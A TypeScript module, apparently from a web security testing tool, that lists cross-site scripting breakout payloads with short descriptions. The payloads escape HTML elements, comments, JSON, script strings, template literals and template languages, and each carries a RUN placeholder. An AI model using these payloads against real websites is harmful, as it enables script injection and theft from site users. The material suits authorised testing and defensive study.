/** Breakouts from places with text: titles, fields, styles, comments, scripts and embedded data. */
import type { Technique } from '../payload.ts'

export const breakouts: Technique = {
  name: 'breaking out of elements',
  runsAs: 'html',
  attempts: [
    ['</title><img src=x onerror=RUN>', 'out of the page’s title'],
    ['</textarea><img src=x onerror=RUN>', 'out of the field that keeps what was typed'],
    ['</TEXTAREA\n><img src=x onerror=RUN>', 'the same in another spelling'],
    ['</style><img src=x onerror=RUN>', 'out of a stylesheet'],
    ['</script><img src=x onerror=RUN>', 'out of a script or a block of data'],
    ['</script ><script>RUN</script>', 'the same, and on to the next'],
    ['<!--<script>', 'makes a script swallow its own end: the double escaped state'],
    ['<!--<script>x</script>--><img src=x onerror=RUN>', 'in and out of it'],
    ['--><img src=x onerror=RUN><!--', 'out of a comment'],
    ['--!><img src=x onerror=RUN>', 'the other end of a comment'],
    ['</noscript><img src=x onerror=RUN>', 'out of what is shown without scripts'],
    ['</template><img src=x onerror=RUN>', 'out of a template, of which pages hold some'],
    ['</select><img src=x onerror=RUN>', 'out of a list of choices'],
    ['</bdi></span></header></article><img src=x onerror=RUN>', 'out of the elements around a name'],
    ['"}</script><script>RUN</script>', 'out of JSON in a page'],
    ['"}]};RUN;//', 'out of JSON that is read as a script'],
    ['\\"};RUN//', 'an escape before the quote'],
    ["';RUN;'", 'out of a script’s string'],
    ['`;RUN;`', 'out of a template literal'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: that is what it tries
    ['${RUN}', 'inside a template literal'],
    ['{{constructor.constructor("RUN")()}}', 'a template language in the browser'],
    ['{{RUN}}', 'the same in short'],
    ['#{RUN}<%= RUN %>', 'template languages of servers'],
    ['\u2028RUN\u2028', 'a line end in scripts that is none in JSON'],
    ['\u2029;RUN;\u2029', 'the end of a paragraph, likewise'],
    ['*/RUN/*', 'out of a script’s comment'],
  ],
}
